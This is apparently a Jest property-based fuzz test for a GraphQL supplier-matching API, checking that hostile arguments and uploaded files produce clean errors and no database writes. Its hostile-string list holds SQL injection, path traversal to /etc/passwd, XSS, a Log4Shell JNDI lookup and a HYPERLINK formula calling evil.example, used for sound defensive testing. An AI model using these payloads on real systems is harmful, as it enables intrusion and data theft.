import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import {
  getNamedType,
  type GraphQLArgument,
  type GraphQLInputType,
  isEnumType,
  isInputObjectType,
  isLeafType,
  isListType,
  isNonNullType,
} from 'graphql';
import { DataSource } from 'typeorm';
import { registerUser } from '../support/accounts.js';
import { buildConfidentialFixture, type ConfidentialFixture } from '../support/confidential-fixture.js';
import { type SchemaOperation, schemaOperations } from '../support/schema-operations.js';
import { startTestApp, type TestApp } from '../support/test-app.js';

/**
 * Property-based fuzzing of every mutation and query the served schema has: arguments are generated
 * from their GraphQL input types, mixing valid values with hostile ones (overlong and control-character
 * strings, invalid Unicode, bidi and zero-width marks, SQL, Meilisearch-filter, path and HTML
 * fragments, -0, huge numbers, 1e400 (Infinity once parsed), "NaN", deep nesting, wrong types). Each
 * answer must be data or a clean client error, never INTERNAL_SERVER_ERROR or a 5xx; a failed
 * mutation must leave every table it could touch exactly as it was.
 *
 * Reproduce a failure with the seed it prints: FUZZ_SEED=<seed> (and FUZZ_RUNS=<n> for more runs).
 */
const SEED = Number(process.env.FUZZ_SEED ?? 20260611);
const MUTATION_RUNS = Number(process.env.FUZZ_RUNS ?? 40);
const QUERY_RUNS = Number(process.env.FUZZ_RUNS ?? 25);
const CLEAN_CODES = new Set([
  'BAD_USER_INPUT',
  'FORBIDDEN',
  'NOT_FOUND',
  'UNAUTHENTICATED',
  'CONFLICT',
  'QUERY_TOO_COMPLEX',
  'RATE_LIMITED',
]);
/** Every table a mutation may write; checksummed before and after each failed one. */
const TABLES = [
  'suppliers',
  'supplier_certifications',
  'supplier_equipment',
  'supplier_customers',
  'supplier_audit_log',
  'supplier_claim_codes',
  'buyers',
  'buyer_plants',
  'sourcing_needs',
  'introductions',
  'sourcing_events',
  'search_outbox',
  'users',
  'company_memberships',
];
/** Columns the search worker changes on its own (not the mutation under test). */
const WORKER_COLUMNS = ['processed_at', 'attempts', 'last_error', 'available_at'];

/** A JSON number token sent as written: `1e400` (Infinity after JSON.parse), `-0`, `1e-400`. */
class RawNumber {
  constructor(readonly token: string) {}
}

function toJson(value: unknown): string {
  if (value instanceof RawNumber) return value.token;
  if (typeof value === 'number') {
    if (Number.isNaN(value)) return '"NaN"'; // JSON cannot carry NaN: a client can only send it as a string
    if (value === Infinity) return '1e400';
    if (value === -Infinity) return '-1e400';
    if (Object.is(value, -0)) return '-0';
    return JSON.stringify(value);
  }
  if (Array.isArray(value)) return `[${value.map(toJson).join(',')}]`;
  if (value && typeof value === 'object')
    return `{${Object.entries(value)
      .filter(([, v]) => v !== undefined)
      .map(([k, v]) => `${JSON.stringify(k)}:${toJson(v)}`)
      .join(',')}}`;
  return JSON.stringify(value) ?? 'null';
}

const HOSTILE_STRINGS = [
  "'; DROP TABLE suppliers; --",
  "' OR '1'='1",
  '" OR id EXISTS',
  'processTree = X',
  'verificationStatus = "VERIFIED" OR _geoRadius(0, 0, 1)',
  '\\"; DELETE',
  '../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '=HYPERLINK("http://evil.example")',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '%00%0d%0a',
  '\u0000',
  'a\u0000b',
  '\u0007\u001b[31mred',
  'line\nbreak',
  '\u2028\u2029',
  '\u202eevil\u202c',
  '\u200b\u200c\u200d\ufeff',
  '\ud800',
  'abc\udfff',
  '\ud83d',
  '😀👨‍👩‍👧',
  'ﷺ𒐫',
  '',
  ' ',
  '   \t ',
  'NaN',
  'Infinity',
  '-0',
  '1e400',
  'null',
  '__proto__',
  'constructor',
  '00000000-0000-0000-0000-000000000000',
  'ffffffff-ffff-ffff-ffff-ffffffffffff',
  '9999-99-99',
  '2026-13-01',
  '20260101',
  '2026-1-1',
  '2026-02-30',
  '0000-00-00',
  '-271821-04-19',
  'x'.repeat(10_050),
  'đ'.repeat(6_000),
  `${'\u0301'.repeat(3_000)}e`,
];

/** What a database or a parser is likeliest to choke on when a validator is missing: NUL, invalid Unicode, control characters, overlong. */
const SHARP_STRINGS = ['\u0000', 'a\u0000b', '\ud800', 'abc\udfff', '\u0007\u001b[31mred', 'x'.repeat(10_050), '\u202eevil\u202c'];

const hostileString = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...SHARP_STRINGS) },
  { weight: 4, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
  {
    weight: 1,
    arbitrary: fc
      .tuple(fc.constantFrom(...HOSTILE_STRINGS.slice(0, 12)), fc.nat({ max: 12_000 }))
      .map(([s, n]) => s.repeat(Math.ceil(n / s.length) || 1)),
  },
);

/* eslint-disable no-loss-of-precision -- 2^53 + 1 below on purpose: the value JavaScript cannot hold exactly */
const hostileNumber = fc.oneof(
  fc.constantFrom<unknown>(
    0,
    -1,
    1,
    2,
    3,
    2_147_483_647,
    -2_147_483_648,
    2_147_483_648,
    9_007_199_254_740_993,
    1e15,
    -1e15,
    1.5,
    0.0001,
    1e308,
    5e-324,
    -0,
    NaN,
    Infinity,
    -Infinity,
  ),
  fc.constantFrom<unknown>(
    new RawNumber('1e400'),
    new RawNumber('-1e400'),
    new RawNumber('1e-400'),
    new RawNumber('-0'),
    new RawNumber('123456789012345678901234567890'),
  ),
  fc.double(),
  fc.integer(),
);
/* eslint-enable no-loss-of-precision */

/** Something of another type than asked for: GraphQL must refuse it cleanly. */
const wrongType = fc.oneof(
  fc.constantFrom<unknown>(true, [], {}, [[[]]], { $gt: '' }, 'NaN', 'Infinity', '1e400'),
  fc.nat({ max: 300 }).map((depth) => {
    let nested: unknown = 'deep';
    for (let i = 0; i < depth; i += 1) nested = i % 2 ? { a: nested } : [nested];
    return nested;
  }),
);

const dates = fc.constantFrom('2027-01-15', '2030-12-31', '2024-01-01', '2028-02-29');

/** A copy of `values` with one string or number leaf (the pick-th, cyclically) replaced by a hostile one of its kind. */
function withOneFault(values: Record<string, unknown>, pick: number, text: unknown, number: unknown): Record<string, unknown> {
  // Not structuredClone: it would turn RawNumber tokens into plain objects (and build them in Node's realm, not jest's).
  const clone = (node: unknown): unknown =>
    node instanceof RawNumber || !node || typeof node !== 'object'
      ? node
      : Array.isArray(node)
        ? node.map(clone)
        : Object.fromEntries(Object.entries(node).map(([k, v]) => [k, clone(v)]));
  const copy = clone(values) as Record<string, unknown>;
  const leaves: [Record<string, unknown> | unknown[], string | number][] = [];
  const collect = (node: unknown) => {
    if (!node || typeof node !== 'object' || node instanceof RawNumber) return;
    for (const [key, value] of Object.entries(node)) {
      if (typeof value === 'string' || typeof value === 'number')
        leaves.push([node as Record<string, unknown>, Array.isArray(node) ? Number(key) : key]);
      else collect(value);
    }
  };
  collect(copy);
  if (!leaves.length) return copy;
  const [parent, key] = leaves[pick % leaves.length];
  const current = (parent as Record<string | number, unknown>)[key];
  (parent as Record<string | number, unknown>)[key] = typeof current === 'string' ? text : number;
  return copy;
}

/** fast-check's failure in a few lines: the seed and path to replay, the cause, the start of the counterexample. */
function describeFailure(error: unknown): string {
  const message = (error as Error).message;
  const replay = /\{ seed: [^}]*\}/.exec(message)?.[0] ?? '';
  const example = /Counterexample: (.*)/.exec(message)?.[1] ?? '';
  const cause = (error as { cause?: Error }).cause?.message ?? /Got error: (.*)/.exec(message)?.[1] ?? message.slice(0, 300);
  return `${cause.slice(0, 700)} — replay ${replay} — counterexample ${example.slice(0, 400)}${example.length > 400 ? '…' : ''}`;
}

describe('fuzzing every operation with hostile input', () => {
  let t: TestApp;
  let f: ConfidentialFixture;
  let db: DataSource;
  let operations: SchemaOperation[];
  /** Valid values by argument or field name, so that generated inputs also get past the first checks. */
  let valid: Record<string, fc.Arbitrary<unknown>>;
  let ids: fc.Arbitrary<string>;
  /** Outcomes per operation (FUZZ_STATS=1 prints them: how deep the generated inputs get). */
  const stats: Record<string, Record<string, number>> = {};

  beforeAll(async () => {
    t = await startTestApp({ SEARCH_MAX_PER_USER: '1000000', SEARCH_MAX_PER_ADDRESS: '1000000' });
    f = await buildConfidentialFixture(t);
    db = t.app.get(DataSource);
    // One owner for every company-scoped mutation: a member of supplier A and of buyer B.
    await db.query('INSERT INTO company_memberships (user_id, buyer_id) VALUES ($1, $2)', [f.supplierOwner.userId, f.buyerId]);
    operations = schemaOperations(t);
    const expendable = await registerUser(t, 'fuzz-session');
    ids = fc.constantFrom(
      f.supplierId,
      f.buyerId,
      f.outsiderSupplierId,
      f.outsiderBuyerId,
      f.publicNeed.id,
      f.anonymousNeed.id,
      f.privateNeed.id,
      f.privateIntroductionId,
      f.anonymousIntroductionId,
      f.supplierOwner.userId,
      f.outsider.userId,
      '3f1e2d4c-0000-4000-8000-00000000abcd',
    );
    const codes = (...values: string[]) => fc.constantFrom(...values);
    valid = {
      // Mostly the owner's own objects (so calls get past authorization), sometimes anyone's.
      id: ids,
      supplierId: fc.oneof({ weight: 4, arbitrary: fc.constant(f.supplierId) }, { weight: 1, arbitrary: ids }),
      buyerId: fc.oneof({ weight: 4, arbitrary: fc.constant(f.buyerId) }, { weight: 1, arbitrary: ids }),
      needId: fc.oneof(
        { weight: 4, arbitrary: fc.constantFrom(f.publicNeed.id, f.anonymousNeed.id, f.privateNeed.id) },
        { weight: 1, arbitrary: ids },
      ),
      introductionId: fc.oneof(
        { weight: 4, arbitrary: fc.constantFrom(f.privateIntroductionId, f.anonymousIntroductionId) },
        { weight: 1, arbitrary: ids },
      ),
      userId: ids,
      supplierIds: fc.uniqueArray(ids, { minLength: 1, maxLength: 3 }),
      version: fc.integer({ min: 1, max: 4 }),
      taxCode: fc.constant(null).map(() => f.nextTaxCode()),
      email: fc.oneof(
        fc.emailAddress(),
        fc.nat().map((n) => `fuzz.${n}@example.vn`),
      ),
      password: fc.constantFrom('correct horse battery', 'admin-password-for-tests'),
      // A session of its own: logout and a replayed refresh token end it, and with it its access tokens.
      refreshToken: fc.constantFrom(expendable.refreshToken, 'not-a-token'),
      name: codes('Công ty TNHH Thử Nghiệm', 'Test Buyer Vina'),
      nameVi: codes('Công ty TNHH Thử Nghiệm'),
      title: codes('Giá đỡ dập SPCC'),
      displayName: codes('Người thử'),
      processes: fc.uniqueArray(codes('STAMPING', 'CNC_MILLING', 'MACHINING', 'PROGRESSIVE_DIE_STAMPING'), { maxLength: 3 }),
      processesAnyOf: fc.uniqueArray(codes('STAMPING', 'MACHINING'), { maxLength: 2 }),
      processesAllOf: fc.uniqueArray(codes('STAMPING', 'MACHINING'), { maxLength: 2 }),
      process: codes('STAMPING', 'MACHINING'),
      materials: fc.uniqueArray(codes('SPCC', 'AL6061', 'SUS304'), { maxLength: 2 }),
      code: codes('ISO_9001', 'IATF_16949'),
      certification: codes('ISO_9001', 'IATF_16949'),
      productGroup: codes('MECH_MOULDS_DIES'),
      productGroups: fc.uniqueArray(codes('MECH_MOULDS_DIES', 'ELECTRONICS_PCB'), { maxLength: 2 }),
      sectors: fc.uniqueArray(codes('AUTOMOTIVE', 'ELECTRONICS'), { maxLength: 2 }),
      sector: codes('AUTOMOTIVE', 'ELECTRONICS'),
      zoneCode: codes('TRANG_DUE', 'VSIP_HP', 'NOMURA_HP'),
      zone: codes('TRANG_DUE', 'VSIP_HP'),
      zones: fc.uniqueArray(codes('TRANG_DUE', 'VSIP_HP'), { maxLength: 2 }),
      countryOfOrigin: codes('KR', 'JP', 'VN'),
      country: codes('KR', 'JP'),
      exportMarkets: fc.uniqueArray(codes('KR', 'JP', 'US'), { maxLength: 2 }),
      languages: fc.uniqueArray(codes('vi', 'en', 'ja', 'ko'), { maxLength: 2 }),
      website: codes('https://example.vn', 'http://co-khi.example.com/gioi-thieu'),
      maxDistanceKm: fc.double({ min: 1, max: 200, noNaN: true }),
      radiusKm: fc.double({ min: 1, max: 200, noNaN: true }),
      phone: codes('+84 225 3812 345', '0225.3812.345'),
      validFrom: dates,
      validUntil: dates,
      neededBy: dates,
      from: dates,
      to: dates,
      query: codes('dập kim loại', 'CNC machining', '切削加工'),
      text: codes('Chúng tôi dập liên hoàn SPCC, có IATF 16949'),
      search: codes('dập', 'cnc'),
      plant: codes('Nhà máy Tràng Duệ số 7'),
      certifications: fc.uniqueArray(codes('ISO_9001', 'IATF_16949'), { maxLength: 2 }),
      after: fc.constant(null),
      foundedYear: fc.integer({ min: 1960, max: 2025 }),
      axes: fc.integer({ min: 1, max: 12 }),
      leadTimeDays: fc.integer({ min: 0, max: 730 }),
      maxLeadTimeDays: fc.integer({ min: 0, max: 730 }),
      withinDays: fc.integer({ min: 1, max: 730 }),
      latitude: fc.double({ min: 20.5, max: 21.2, noNaN: true }),
      longitude: fc.double({ min: 106.2, max: 107.1, noNaN: true }),
      lat: fc.double({ min: 20.5, max: 21.2, noNaN: true }),
      lng: fc.double({ min: 106.2, max: 107.1, noNaN: true }),
    };
  }, 120000);
  afterAll(async () => {
    if (process.env.FUZZ_STATS)
      console.log(
        Object.entries(stats)
          .map(([name, outcomes]) => `${name}: ${JSON.stringify(outcomes)}`)
          .join('\n'),
      );
    await t?.close();
  });

  /**
   * Values for an input type. Each leaf is benign (valid where its name is known) or, with the
   * run's hostility rate, hostile: of the right GraphQL type mostly (so it reaches validation and
   * the services), sometimes null, out of range or of another type (refused by GraphQL itself).
   * A low rate gets whole inputs past validation, down to the database.
   */
  function valueFor(type: GraphQLInputType, name: string, depth: number, rate: number): fc.Arbitrary<unknown> {
    const nonNull = isNonNullType(type);
    const inner = nonNull ? type.ofType : type;
    let benign: fc.Arbitrary<unknown>;
    const hostile: fc.Arbitrary<unknown>[] = [wrongType, fc.constant(null)];
    if (isListType(inner)) {
      const item = valueFor(inner.ofType, name, depth + 1, rate);
      benign = (isLeafType(getNamedType(inner)) ? valid[name] : undefined) ?? fc.array(item, { maxLength: 3 });
      hostile.push(
        fc.array(item, { maxLength: 5 }),
        fc.tuple(item, fc.integer({ min: 50, max: 2000 })).map(([v, n]) => Array.from({ length: n }, () => v)),
      );
    } else if (isInputObjectType(inner)) {
      if (depth > 4) return fc.constant(null);
      const fields = Object.values(inner.getFields());
      benign = fc.record(Object.fromEntries(fields.map((field) => [field.name, valueFor(field.type, field.name, depth + 1, rate)])), {
        requiredKeys: fields.filter((field) => isNonNullType(field.type) && field.defaultValue === undefined).map((field) => field.name),
      });
    } else if (isEnumType(inner)) {
      benign = fc.constantFrom(...inner.getValues().map((v) => v.value as string));
      hostile.push(hostileString);
    } else {
      const scalar = getNamedType(inner).name;
      if (scalar === 'Int') benign = valid[name] ?? fc.integer({ min: 1, max: 100 });
      else if (scalar === 'Float') benign = valid[name] ?? fc.double({ min: 0.01, max: 100, noNaN: true });
      else if (scalar === 'Boolean') benign = fc.boolean();
      else benign = valid[name] ?? fc.constantFrom('Thử nghiệm', 'Test 1');
      hostile.push(
        ...(scalar === 'Int' || scalar === 'Float'
          ? [hostileNumber, hostileNumber, hostileNumber]
          : scalar === 'Boolean'
            ? [fc.constantFrom<unknown>('true', 0, 1)]
            : [hostileString, hostileString, hostileString]),
      );
    }
    if (rate === 0) return benign;
    return fc.oneof(
      { weight: Math.round((1 - rate) * 100), arbitrary: benign },
      ...hostile.map((arbitrary) => ({ weight: Math.max(1, Math.round((rate * 100) / hostile.length)), arbitrary })),
    );
  }

  /**
   * Arguments of an operation. Two thirds of the runs: valid arguments with a single hostile value
   * put in place of one string or number (so the fault reaches validation alone); the others, a
   * hostility rate per run, from none (all valid) to most values hostile.
   */
  const argsFor = (args: readonly GraphQLArgument[]) => {
    const withRate = (rate: number) =>
      fc.record(Object.fromEntries(args.map((arg) => [arg.name, valueFor(arg.type, arg.name, 0, rate)])), {
        requiredKeys: args.filter((arg) => isNonNullType(arg.type) && arg.defaultValue === undefined).map((arg) => arg.name),
      });
    const singleFault = fc
      .tuple(withRate(0), fc.nat(), hostileString, hostileNumber)
      .map(([values, pick, text, number]) => withOneFault(values, pick, text, number));
    return fc.oneof(
      { weight: 2, arbitrary: singleFault },
      { weight: 1, arbitrary: fc.constantFrom(0, 0.03, 0.1, 0.3, 0.7).chain(withRate) },
    );
  };

  function documentFor(op: SchemaOperation): string {
    // An argument with a default takes a nullable variable, so that leaving the variable out means the default.
    const definitions = op.field.args
      .map((a) => `$${a.name}: ${(a.defaultValue !== undefined && isNonNullType(a.type) ? a.type.ofType : a.type).toString()}`)
      .join(', ');
    const call = op.field.args.map((a) => `${a.name}: $${a.name}`).join(', ');
    const selection = isLeafType(getNamedType(op.field.type)) ? '' : ' { __typename }';
    return `${op.kind}${definitions ? `(${definitions})` : ''} { ${op.name}${call ? `(${call})` : ''}${selection} }`;
  }

  async function send(query: string, variables: Record<string, unknown>, token: string) {
    const res = await t
      .http()
      .post('/graphql')
      .set('content-type', 'application/json')
      .set('authorization', `Bearer ${token}`)
      .send(`{"query":${JSON.stringify(query)},"variables":${toJson(variables)}}`);
    const outcome = `${res.body?.errors?.[0]?.extensions?.code ?? (res.body?.data ? 'data' : res.status)}${process.env.FUZZ_STATS === '2' ? ` ${JSON.stringify(res.body?.errors?.[0]?.extensions?.fieldErrors ?? res.body?.errors?.[0]?.message ?? '').slice(0, 150)}` : ''}`;
    const name = /\{ (\w+)/.exec(query)![1];
    (stats[name] ??= {})[outcome] = (stats[name][outcome] ?? 0) + 1;
    return {
      status: res.status,
      body: res.body as { data?: Record<string, unknown> | null; errors?: { message: string; extensions?: { code?: string } }[] },
    };
  }

  /** Why an answer is not clean (null when it is): a 5xx, an unexpected error code, or neither data nor errors. */
  function unclean(answer: Awaited<ReturnType<typeof send>>): string | null {
    const codes = (answer.body?.errors ?? []).map((e) => e.extensions?.code);
    if (answer.status >= 500) return `HTTP ${answer.status}: ${JSON.stringify(answer.body).slice(0, 500)}`;
    const foreign = (answer.body?.errors ?? []).find((e) => !CLEAN_CODES.has(e.extensions?.code as string));
    if (foreign) return `HTTP ${answer.status}, ${foreign.extensions?.code ?? 'no code'}: ${JSON.stringify(foreign).slice(0, 500)}`;
    if (!codes.length && !answer.body?.data && answer.status !== 413) return `HTTP ${answer.status} with neither data nor errors`;
    return null;
  }

  /** One checksum per table (worker-owned columns and rows left out). */
  async function checksums(): Promise<Record<string, string>> {
    const drop = WORKER_COLUMNS.map((c) => ` - '${c}'`).join('');
    const parts = TABLES.map((table) => {
      const where = table === 'search_outbox' ? ` WHERE x.reason <> 'certificate-validity'` : '';
      return `(SELECT count(*) || ':' || coalesce(md5(string_agg(j, ',' ORDER BY j)), '') FROM (SELECT (to_jsonb(x)${drop})::text AS j FROM ${table} x${where}) s) AS ${table}`;
    });
    const [row] = await db.query(`SELECT ${parts.join(', ')}`);
    return row;
  }

  const ADMIN_ONLY = /ADMIN only|ADMIN and ANALYST only/;
  const tokenFor = (op: SchemaOperation) => (ADMIN_ONLY.test(op.field.description ?? '') ? f.admin.token : f.supplierOwner.token);
  const params = (runs: number) => ({ seed: SEED, numRuns: runs, endOnFailure: !process.env.FUZZ_SHRINK, interruptAfterTimeLimit: 20_000 });

  it('finds operations to fuzz in the served schema', () => {
    expect(operations.filter((op) => op.kind === 'mutation').length).toBeGreaterThanOrEqual(20);
    expect(operations.filter((op) => op.kind === 'query').length).toBeGreaterThanOrEqual(20);
  });

  /** Runs `check` on generated arguments of every operation of a kind; the failures of all of them, with their seeds. */
  async function fuzzEach(
    kind: 'query' | 'mutation',
    runs: number,
    check: (op: SchemaOperation, query: string, variables: Record<string, unknown>) => Promise<void>,
  ): Promise<string[]> {
    const report: string[] = [];
    for (const op of operations.filter((o) => o.kind === kind)) {
      const query = documentFor(op);
      try {
        await fc.assert(
          fc.asyncProperty(argsFor(op.field.args), (variables) => check(op, query, variables)),
          params(runs),
        );
      } catch (error) {
        report.push(`${op.name}: ${describeFailure(error)}`);
      }
    }
    return report;
  }

  it('answers every mutation cleanly, and a failed one writes nothing', async () => {
    const report = await fuzzEach('mutation', MUTATION_RUNS, async (op, query, variables) => {
      const before = await checksums();
      const answer = await send(query, variables, tokenFor(op));
      const problem = unclean(answer);
      if (problem) throw new Error(problem);
      if (answer.body?.errors?.length) {
        const after = await checksums();
        const changed = TABLES.filter((table) => before[table] !== after[table]);
        if (changed.length) throw new Error(`failed with ${answer.body.errors[0].extensions?.code} but changed ${changed.join(', ')}`);
      }
    });
    expect(report).toEqual([]);
  }, 180000);

  it('answers the registry upload cleanly whatever the file holds, and a refused import writes nothing', async () => {
    const cell = fc.oneof(
      hostileString,
      fc.constantFrom(
        '0100109106',
        'Công ty TNHH A',
        'STAMPING; CNC turning',
        'ISO_9001:2027-01-01',
        '1.200',
        '=1+1',
        '"quoted, with comma"',
        '\r\n',
      ),
    );
    const row = fc
      .array(cell, { maxLength: 8 })
      .map((cells) => cells.map((c) => (/[",\n]/.test(c) ? `"${c.replace(/"/g, '""')}"` : c)).join(','));
    const file = fc.oneof(
      fc.array(row, { maxLength: 6 }).map((rows) => ['tax_code,name_vi,processes,certifications,employees,latitude', ...rows].join('\n')),
      fc.uint8Array({ maxLength: 2000 }).map((bytes) => Buffer.from(bytes).toString('latin1')),
      fc
        .array(fc.dictionary(fc.constantFrom('tax_code', 'name_vi', 'zone', 'employees', '__proto__'), cell), { maxLength: 4 })
        .map((objects) => objects.map((o) => JSON.stringify(o)).join('\n')),
    );
    await fc.assert(
      fc.asyncProperty(
        file,
        fc.constantFrom('registry.csv', 'registry.jsonl', 'registry.xlsx', 'registry.txt', '../../etc/passwd.csv', 'r\u202egsm.csv'),
        fc.boolean(),
        async (content, name, dryRun) => {
          const before = await checksums();
          const res = await t
            .http()
            .post('/graphql')
            .set('apollo-require-preflight', 'true')
            .set('authorization', `Bearer ${f.admin.token}`)
            .field(
              'operations',
              JSON.stringify({
                query:
                  'mutation($file: Upload!, $dryRun: Boolean!) { importSupplierRegistry(file: $file, dryRun: $dryRun) { total created updated rejected } }',
                variables: { file: null, dryRun },
              }),
            )
            .field('map', JSON.stringify({ 0: ['variables.file'] }))
            .attach('0', Buffer.from(content, 'latin1'), name);
          const problem = unclean({ status: res.status, body: res.body });
          if (problem) throw new Error(problem);
          if (res.body?.errors?.length || dryRun) {
            const after = await checksums();
            const changed = TABLES.filter((table) => before[table] !== after[table]);
            if (changed.length) throw new Error(`${dryRun ? 'a dry run' : 'a refused import'} changed ${changed.join(', ')}`);
          }
        },
      ),
      params(MUTATION_RUNS),
    );
  }, 120000);

  describe('regressions the fuzzer found (each was an INTERNAL_SERVER_ERROR)', () => {
    const expectBadUserInput = async (query: string, variables: Record<string, unknown>, token = f.supplierOwner.token) => {
      const answer = await send(query, variables, token);
      expect(unclean(answer)).toBeNull();
      expect(answer.body.errors?.map((e) => e.extensions?.code)).toContain('BAD_USER_INPUT');
      expect(answer.body.errors?.every((e) => e.extensions?.code === 'BAD_USER_INPUT')).toBe(true);
    };

    it('more than 50 invalid values in the variables (graphql-js stops with an error of its own)', async () => {
      await expectBadUserInput('query($i: SearchSuppliersInput!) { searchSuppliers(input: $i) { totalHits } }', {
        i: { materials: Array.from({ length: 60 }, () => null) },
      });
    });

    it('an explicit null for a non-null argument that has a default', async () => {
      await expectBadUserInput('query($n: Int) { inbox(first: $n) { id } }', { n: null });
      await expectBadUserInput('query($l: Language) { supplyCoverage(by: ZONE, lang: $l) { asOf } }', { l: null }, f.admin.token);
      await expectBadUserInput(
        'query($g: [FunnelDimension!]) { matchingFunnel(from: "2026-01-01", to: "2026-12-31", groupBy: $g) { from } }',
        { g: null },
        f.admin.token,
      );
    });

    it('an email with a lone surrogate (the email validator threw URIError)', async () => {
      await expectBadUserInput('mutation($i: RegisterInput!) { register(input: $i) { accessToken } }', {
        i: { email: 'a\ud800@example.vn', password: 'correct horse battery', displayName: 'X' },
      });
      await expectBadUserInput('mutation($i: CreateBuyerInput!) { createBuyer(input: $i) { id } }', {
        i: { taxCode: f.nextTaxCode(), name: 'Buyer', countryOfOrigin: 'JP', contact: { email: '\udfff@x.vn' } },
      });
    });

    it('a NUL character in a login email (PostgreSQL refuses it in text)', async () => {
      await expectBadUserInput('mutation($e: String!) { login(email: $e, password: "whatever pass") { accessToken } }', {
        e: 'a\u0000@example.vn',
      });
    });

    it('a need update that clears its visibility', async () => {
      const before = await checksums();
      await expectBadUserInput('mutation($input: UpdateSourcingNeedInput!) { updateSourcingNeed(input: $input) { id } }', {
        input: { ...f.privateNeed, visibility: null },
      });
      expect(await checksums()).toEqual(before);
    });
  });

  it('answers every query cleanly', async () => {
    const report = await fuzzEach('query', QUERY_RUNS, async (_op, query, variables) => {
      const problem = unclean(await send(query, variables, f.admin.token));
      if (problem) throw new Error(problem);
    });
    expect(report).toEqual([]);
  }, 180000);
});
